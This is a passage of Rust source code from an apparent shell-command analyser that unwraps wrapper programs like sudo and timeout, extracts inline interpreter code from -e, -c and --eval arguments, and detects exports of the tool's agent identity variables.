            "-n" | "-P" | "--max-args" | "--max-procs" => {
                words.next();
            }
            _ if ["-n", "-P", "--max-args=", "--max-procs="]
                .iter()
                .any(|p| w.starts_with(p)) => {}
            // A newline delimiter splits as find prints (`-d'\n'`, `-d '\n'`).
            "-d" | "--delimiter" if words.next().is_some_and(|v| v.trim_matches(['\'', '"']) == "\\n") => {}
            _ if ["-d", "--delimiter="]
                .iter()
                .any(|p| w.strip_prefix(p).is_some_and(|v| v.trim_matches(['\'', '"']) == "\\n")) => {}
            _ => return false,
        }
    }
    true
}

fn keeps_descriptors(argv: &[Arg]) -> bool {
    let mut words = argv.iter().map(Arg::raw).skip_while(|w| matches!(*w, "command" | "-p"));
    if words.next() != Some("exec") {
        return false;
    }
    let mut value = false;
    words.all(|w| {
        let option = std::mem::take(&mut value) || w.starts_with('-') || (w.starts_with('{') && w.ends_with('}'));
        value = w == "-a";
        option
    })
}

/// The program a command runs, past the wrappers that run the rest of it (`sudo`, `env`,
/// `exec`, `nohup`, `timeout 30`, …, and the runners' table: `nsenter`, `uv run`) and
/// their options and assignments.
fn command_program(argv: &[Arg]) -> Option<&str> {
    const WRAPPERS: &[&str] = &[
        "sudo", "doas", "env", "exec", "nohup", "nice", "ionice", "time", "timeout", "stdbuf", "setsid", "busybox",
        "toybox", "command", "builtin", "chroot", "unbuffer",
    ];
    let mut words = argv.iter().map(Arg::raw);
    let first = program(words.next()?);
    if let Some(rest) = runners::command(first, &argv[1..]) {
        return command_program(rest);
    }
    if !WRAPPERS.contains(&first) {
        return Some(first);
    }
    words
        .find(|w| {
            !(w.starts_with('-')
                || is_assignment(w)
                || w.chars().next().is_some_and(|c| c.is_ascii_digit())
                || WRAPPERS.contains(&program(w)))
        })
        .map(program)
}

/// The inline code an interpreter's arguments carry (every `-e` of it, attached
/// `-c'...'`, `--eval=...` and bundles `-pe`, `-le` included), and whether it reads its
/// program on stdin (no code and no script file). `Err`: code only known at run time.
fn inline_code(it: &inline::Interpreter, args: &[Arg]) -> Result<(Option<String>, bool), String> {
    let mut codes = Vec::new();
    let mut script = false;
    let mut i = 0;
    while i < args.len() {
        let raw = args[i].raw();
        i += 1;
        let mut take_next = |i: &mut usize| -> Result<(), String> {
            match args.get(*i) {
                Some(Arg::Lit(c)) => codes.push(c.clone()),
                Some(Arg::Unknown(r)) => return Err(r.clone()),
                None => {}
            }
            *i += 1;
            Ok(())
        };
        if it.long.contains(&raw) {
            take_next(&mut i)?;
            continue;
        }
        if let Some(code) = it
            .long
            .iter()
            .filter(|l| l.starts_with("--"))
            .find_map(|l| raw.strip_prefix(&format!("{l}=")))
        {
            codes.push(code.to_string());
            continue;
        }
        if raw == "-" || raw == "--" {
            break;
        }
        if it.script_options.contains(&raw) {
            script = true; // python -m module, php -f file: not on stdin
            break;
        }
        if it.value_options.contains(&raw) {
            i += 1;
            continue;
        }
        if let Some(letters) = raw.strip_prefix('-').filter(|l| !l.starts_with('-') && !l.is_empty()) {
            // Left to right: flags, until a letter that takes code (the rest of the word,
            // or the next word) or a value (`-MData::Dumper`, `-rtime`, `-I lib`).
            for (j, c) in letters.char_indices() {
                let rest = &letters[j + c.len_utf8()..];
                if it.letters.contains(&c) {
                    let more_flags = it.lang != inline::Lang::Python
                        && rest.len() <= 3
                        && rest.chars().all(|r| r.is_ascii_alphabetic());
                    if rest.is_empty() {
                        take_next(&mut i)?;
                    } else if more_flags {
                        continue; // `-pe`, `-le`: the code letter comes later
                    } else {
                        codes.push(rest.to_string());
                    }
                    break;
                }
                if it.value_letters.contains(&c) {
                    if rest.is_empty() {
                        i += 1;
                    }
                    break;
                }
            }
            continue;
        }
        if !raw.starts_with('-') {
            if codes.is_empty() {
                script = true; // a script file: its content is not in the command line
            }
            break;
        }
    }
    let reads_stdin = codes.is_empty() && !script;
    Ok(((!codes.is_empty()).then(|| codes.join("\n")), reads_stdin))
}

/// `export`/`declare`/`typeset`/`readonly` arguments that set coord's identity variables.
fn exports_identity(args: &[Arg]) -> bool {
    args.iter().any(|a| {
        ["COORD_AGENT_ID=", "COORD_AGENT_TYPE=", "AGENT_TYPE="]
            .iter()
            .any(|p| a.raw().starts_with(p))
    })
}

/// `NAME=value`, as an environment assignment before a command.
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| walk::shell_name(name))
}

/// The arguments after the leading options (`value_options` take the next word).
fn skip_options<'a>(args: &'a [Arg], value_options: &[&str]) -> &'a [Arg] {
    let mut i = 0;
    while i < args.len() {
        let raw = args[i].raw();
        if raw == "--" {
            return &args[i + 1..];
        }
        // In a bundle, the first flag that takes a value takes the rest of the word
        // (`-uroot`, `-d'\n'`, `-k5s`), or the next word when it is last (`-iu NAME`).
        let bundle_value_is_next = raw.len() > 2
            && raw.starts_with('-')
            && !raw.starts_with("--")
            && raw[1..]
                .char_indices()
                .find(|(_, c)| value_options.contains(&format!("-{c}").as_str()))
                .is_some_and(|(j, c)| j + c.len_utf8() == raw.len() - 1);
        if value_options.contains(&raw) || bundle_value_is_next {
            i += 2;
        } else if raw.starts_with('-') && raw.len() > 1 {
            i += 1;
        } else {
            break;
        }
    }
    args.get(i..).unwrap_or_default()
}

#[cfg(test)]
mod corpus;
